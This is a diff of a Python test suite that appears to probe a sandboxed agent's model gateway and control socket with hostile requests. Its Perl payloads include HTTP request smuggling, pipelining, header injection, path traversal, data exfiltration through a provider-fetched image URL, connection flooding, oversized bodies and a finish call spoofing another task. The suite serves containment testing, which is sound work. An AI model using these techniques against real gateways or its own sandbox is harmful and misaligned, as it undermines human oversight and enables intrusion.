@@ -1,7 +1,7 @@
-"""The model gateway and the control socket, which face a hostile client: what reaches the other side of them?
+"""Attempts to get something past the model gateway and the control socket.
 
-Controls send the same through a plain pipe. What got through is what the provider, or the runner, has heard. A payload
-begins when a request without the trick was answered, so that it is the trick that is refused.
+An attempt got through if the provider or the runner received it; controls send the same through a plain pipe. A payload
+first sends a valid request, which must be answered, so that a refusal afterwards is due to the trick.
 """
 
 from agentcontainer.domain.models.catalogue import Provider as Name
@@ -28,7 +28,7 @@ print $ARGV[0] if $left == {_CONNECTIONS};
 
 
 def _sends(socket: str, plain: str, script: str) -> str:
-    """Perl that sends what `script` returns (`$n` is the nonce) once the plain request was answered."""
+    """Perl that sends what `script` returns (`$n` is the nonce), after the plain request was answered."""
     return (
         f"sub ask {{ my ($n) = @ARGV; {script} }} unix({socket}, {plain}) =~ m|^HTTP/1.1 200| or die 'not served';"
         f"begin; unix({socket}, ask());"
@@ -36,14 +36,14 @@ def _sends(socket: str, plain: str, script: str) -> str:
 
 
 def _asks(name: str, tries: str, script: str, path: str = ANTHROPIC) -> Attempt:
-    """A request to the gateway of a task whose provider has that path."""
+    """A request to the gateway of a task whose provider serves `path`."""
     provider: Name = "openai" if path == OPENAI else "anthropic"
     payload = perl(_sends("$gateway", _PLAIN[path], script), begins=False)
     return Attempt(name, tries, payload, nonce_only, by_gateway(provider), by_pipe())
 
 
 def _body(name: str, tries: str, fields: str, path: str = ANTHROPIC) -> Attempt:
-    """A model request with these fields beside a good beginning."""
+    """A valid model request with these additional fields."""
     return _asks(name, tries, f'post("{path}", qq({{"model":"{MODEL}",{fields}}}))', path)
 
 
@@ -61,20 +61,24 @@ GATEWAY = Group(
             "Asks a model that is not its task's.",
             f'post("{ANTHROPIC}", qq({{"model":"$n",{_MESSAGES}}}))',
         ),
-        _body("twice-a-model", "Names a model twice, the second time another.", f'"model":"$n",{_MESSAGES}'),
+        _body(
+            "twice-a-model",
+            "Names two models, one allowed and one not, under the same key.",
+            f'"model":"$n",{_MESSAGES}',
+        ),
         _body(
             "fallback",
-            "Asks another model in case its own has no time.",
+            "Names another model as a fallback for its own.",
             f'"fallbacks":[{{"model":"$n"}}],{_MESSAGES}',
         ),
         _body(
             "hosted-tool",
-            "Has the provider search the web for it.",
+            "Uses the provider's hosted web search.",
             f'"tools":[{{"type":"web_search","name":"$n"}}],{_MESSAGES}',
         ),
         _body(
             "fetch-image",
-            "Has the provider fetch a URL for it, with what it wants to carry out.",
+            "Makes the provider fetch a URL that contains stolen data.",
             '"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"http://x/$n"}}]}]',
         ),
         _body(
@@ -83,7 +87,7 @@ GATEWAY = Group(
             '"input":"x","previous_response_id":"$n"',
             OPENAI,
         ),
-        _body("unknown-field", "Uses a field that nobody has looked at.", f'"$n":1,{_MESSAGES}'),
+        _body("unknown-field", "Uses a request field that is not on the allow-list.", f'"$n":1,{_MESSAGES}'),
         _asks(
             "another-provider",
             "Asks another provider.",
@@ -91,11 +95,11 @@ GATEWAY = Group(
         ),
         _asks(
             "another-path",
-            "Asks the provider for something else than an answer.",
+            "Calls an API of the provider that does not run a model.",
             'post("/anthropic/v1/files/$n", "{}")',
         ),
         _asks(
-            "dots", "Climbs out of the path that is allowed.", f'post("{ANTHROPIC}/../../files/$n", "{{}}")'
+            "dots", "Leaves the allowed path by dot segments.", f'post("{ANTHROPIC}/../../files/$n", "{{}}")'
         ),
         _asks(
             "query",
@@ -104,7 +108,7 @@ GATEWAY = Group(
         ),
         _asks(
             "header",
-            "Sends a header of its own along.",
+            "Adds headers of its own.",
             f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "Anthropic-Organization: $n", "Cookie: $n")',
         ),
         _asks(
@@ -122,48 +126,48 @@ GATEWAY = Group(
         ),
         _asks(
             "smuggled",
-            "Hides a second request in the body of the first, by two lengths.",
+            "Smuggles a second request in the body of the first, by two contradictory lengths.",
             'my $inner = post("/v1/files/$n", ""); post("' + ANTHROPIC + '", "0\\r\\n\\r\\n$inner",'
             '"Content-Length: " . (5 + length $inner), "Transfer-Encoding: chunked")',
         ),
         _asks(
             "pipelined",
-            "Sends a second request behind the first, which is refused.",
+            "Pipelines a second request behind a first one that is refused.",
             'my $first = post("/x", "{}"); $first =~ s/Connection: close\\r\\n//;'
             '$first . post("/anthropic/v1/files/$n", "{}")',
         ),
         _asks(
             "split-header",
-            "Breaks a header's value into a header of its own.",
+            "Injects a header by a line break in a header's value.",
             f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "anthropic-beta: x\\n$n: y")',
         ),
         _asks(
             "endless-body",
-            "Sends a body that is larger than memory shall be.",
+            "Sends a body that is larger than the limit.",
             'my $fill = "x" x (34 * 1048576);'
             f'post("{ANTHROPIC}", qq({{"model":"{MODEL}","system":"$fill$n",{_MESSAGES}}}))',
         ),
         Attempt(
             "connections",
-            "Holds so many connections open that others get none.",
+            "Opens more connections than the limit.",
             perl(_FLOOD),
             nonce_only,
-            by_gateway(is_heard=False),
-            by_pipe(is_heard=False),
+            by_gateway(is_received=False),
+            by_pipe(is_received=False),
         ),
         _finish(
             "endless-finish",
-            "Calls finish with a message that has no end.",
+            "Calls finish with a message that is larger than the limit.",
             'my $fill = "x" x 2000000; post("/finish", qq({"completion":"complete","message":"$fill$n","cwd":"/"}))',
         ),
         _finish(
             "odd-finish",
-            "Calls finish with what is not its own to say.",
+            "Calls finish with the id of another task.",
             'post("/finish", qq({"completion":"complete","message":"$n","cwd":"/","taskId":"tsk_other"}))',
         ),
         _finish(
             "deep-finish",
-            "Calls finish with JSON so deep that a parser falls.",
+            "Calls finish with JSON that is nested too deeply for a parser.",
             'my $deep = "[" x 100000; post("/finish", qq({"message":"$n","files":$deep))',
         ),
     ),
